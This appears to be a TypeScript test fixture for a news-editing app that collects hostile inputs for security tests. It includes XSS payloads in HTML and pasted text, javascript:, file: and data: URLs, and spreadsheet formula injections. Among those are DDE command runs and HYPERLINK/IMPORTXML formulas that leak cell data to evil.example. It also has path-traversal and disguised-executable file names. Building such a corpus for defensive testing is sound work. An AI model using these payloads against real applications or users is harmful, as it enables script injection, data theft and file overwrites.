/**
 * The hostile input corpus, written for this project: every kind of input an editor (or
 * someone sending an editor a file) could use to break the app or run a script through it.
 * Large items are generated when asked for, never checked in. Used by the unit tests
 * (electron/main/security/hostile-input.test.ts) and the end-to-end spec
 * (e2e/hostile-input.spec.ts); every script payload sets `__pwned`, so a test can check
 * that none ran.
 */

/** The flag every script payload below sets (on window / globalThis) if it ever runs. */
export const PWNED_FLAG = '__pwned';

/** 20 MB of plain text (IMPORT_FILE_LIMIT bytes, with the `extra` bytes more): sentences, paragraphs, no markup. */
export function twentyMegabyteText(limit: number, extra = 0): Buffer {
  const paragraph = Buffer.from('The council said the bridge would cost $40 million, twice the 2023 estimate. '.repeat(12) + '\n\n');
  const text = Buffer.alloc(limit + extra);
  for (let at = 0; at < text.length; at += paragraph.length) paragraph.copy(text, at, 0, Math.min(paragraph.length, text.length - at));
  return text;
}

/** Binary files renamed .txt (and .md, .html): what a mistaken or malicious "article" really is. */
export const BINARY_RENAMED: readonly { name: string; bytes: Buffer; what: string }[] = [
  { name: 'photo.txt', what: 'a PNG image', bytes: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52]) },
  { name: 'program.txt', what: 'an ELF executable', bytes: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]) },
  { name: 'setup.md', what: 'a Windows executable', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.from('This program cannot be run in DOS mode.')]) },
  { name: 'archive.txt', what: 'a ZIP archive (a .docx renamed .txt)', bytes: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]), Buffer.alloc(20, 0)]) },
  { name: 'page.html', what: 'a gzip stream', bytes: Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x00, 0x00]) },
  { name: 'utf16.txt', what: 'UTF-16 text (NUL bytes between letters)', bytes: Buffer.from('\uFEFFThe council voted 7 to 2.', 'utf16le') },
];

/** Byte sequences that are not UTF-8, each after a line of good text. */
export const INVALID_UTF8: readonly { what: string; bytes: number[] }[] = [
  { what: 'Latin-1 é', bytes: [0x63, 0x61, 0x66, 0xe9, 0x20] },
  { what: 'an overlong "/"', bytes: [0xc0, 0xaf] },
  { what: 'an encoded surrogate', bytes: [0xed, 0xa0, 0x80] },
  { what: 'a truncated sequence', bytes: [0xe2, 0x82] },
  { what: 'a stray continuation byte', bytes: [0x80, 0x41] },
  { what: 'a five-byte sequence', bytes: [0xf8, 0x88, 0x80, 0x80, 0x80] },
  { what: 'beyond U+10FFFF', bytes: [0xf4, 0x90, 0x80, 0x80] },
  { what: '0xFF', bytes: [0xff, 0x41] },
];

export function invalidUtf8File(bytes: readonly number[]): Buffer {
  return Buffer.concat([Buffer.from('Council votes on the bridge\n\nThe council voted 7 to 2 on Tuesday. '), Buffer.from(bytes), Buffer.from(' More text follows.')]);
}

/** A news page whose every part tries to run a script: tags, event handlers, javascript: links, framed and SVG code, meta refreshes. */
export const HOSTILE_HTML = `<!doctype html><html><head>
<title>Bridge costs double, council told</title>
<meta http-equiv="refresh" content="0;url=javascript:window.${PWNED_FLAG}='meta'">
<link rel="canonical" href="javascript:window.${PWNED_FLAG}='canonical'">
<meta property="og:url" content="javascript:window.${PWNED_FLAG}='og'">
<meta name="author" content="<img src=x onerror=&quot;window.${PWNED_FLAG}='author'&quot;>">
<script>window.${PWNED_FLAG} = 'head script';</script>
<base href="javascript:window.${PWNED_FLAG}='base'//">
</head>
<body onload="window.${PWNED_FLAG}='onload'">
<article>
<h1 onmouseover="window.${PWNED_FLAG}='h1'">Bridge costs double, council told</h1>
<p>The council was told on Tuesday that the bridge will cost $80 million, <a href="javascript:window.${PWNED_FLAG}='link'">twice the estimate</a> given to residents in 2023.<img src="x" onerror="window.${PWNED_FLAG}='img'"></p>
<p>Mayor Ana Ruiz said the city would borrow the difference.<svg onload="window.${PWNED_FLAG}='svg'"><script>window.${PWNED_FLAG}='svg script'</script></svg> <iframe src="javascript:window.${PWNED_FLAG}='iframe'"></iframe><iframe srcdoc="<script>parent.${PWNED_FLAG}='srcdoc'</script>"></iframe></p>
<p>Critics wrote &lt;script&gt;window.${PWNED_FLAG}='escaped text'&lt;/script&gt; on their placards, according to the Gazette.<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)"></p>
<p><form action="javascript:window.${PWNED_FLAG}='form'"><button formaction="javascript:alert(1)">Vote</button></form>The vote is due on 12 March, a council spokesperson said.<math><mi xlink:href="javascript:alert(1)">x</mi></math></p>
<noscript><p title="</noscript><img src=x onerror=window.${PWNED_FLAG}='mxss'>">mutation</p></noscript>
<template><img src=x onerror="window.${PWNED_FLAG}='template'"></template>
<style>@import 'javascript:alert(1)'; body { background: url("javascript:alert(1)") }</style>
</article>
</body></html>`;

/** What the hostile page's article text is, once read: the words, none of the code. */
export const HOSTILE_HTML_SENTENCES = [
  'The council was told on Tuesday that the bridge will cost $80 million, twice the estimate given to residents in 2023.',
  'Mayor Ana Ruiz said the city would borrow the difference.',
  'The vote is due on 12 March, a council spokesperson said.',
];

/** Text an editor might paste or type: markup and script that must stay text wherever it is shown. */
export const HOSTILE_TEXT = [
  `<script>window.${PWNED_FLAG}='pasted script'</script>`,
  `<img src=x onerror="window.${PWNED_FLAG}='pasted img'">`,
  `"><svg onload="window.${PWNED_FLAG}='pasted svg'">`,
  `javascript:window.${PWNED_FLAG}='pasted link'`,
  `{{constructor.constructor('window.${PWNED_FLAG}=1')()}}`,
  '\u202Egnp.exe',
].join(' ');

/** Addresses that are not web pages: refused wherever an address is stored, opened or fetched. */
export const HOSTILE_URLS: readonly string[] = [
  `javascript:window.${PWNED_FLAG}='url'`,
  'JavaScript:alert(document.domain)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'file://C:/Windows/win.ini',
  'file:///C:/Users/Public/report.html',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/0b1f',
  'about:blank',
  'chrome://settings',
  'ftp://files.example/report.csv',
  '//evil.example/path',
  'evil.example/path',
];

/** Cells a spreadsheet would run (DDE, HYPERLINK exfiltration, arithmetic), including after a tab or CR. */
export const CSV_FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for sources")',
  '=cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
];

/** Export file names that try to leave the chosen folder or hide what they are. */
export const TRAVERSAL_FILE_NAMES: readonly string[] = [
  '../../../../../../etc/cron.d/evil',
  '..\\..\\..\\Windows\\System32\\evil.dll',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  '\\\\evil-server\\share\\report.html',
  'report.html:evil.exe',
  '..',
  '.bashrc',
  'CON.html',
  'report\u202Elmth.exe',
  'a/../../b.md',
];

/** Article titles that become export file names. */
export const TRAVERSAL_TITLES: readonly string[] = ['../../../../etc/passwd', '..\\..\\Windows\\win', '/', '.', 'CON', 'report\u202Efdp.exe', '\u0000\u0001'];
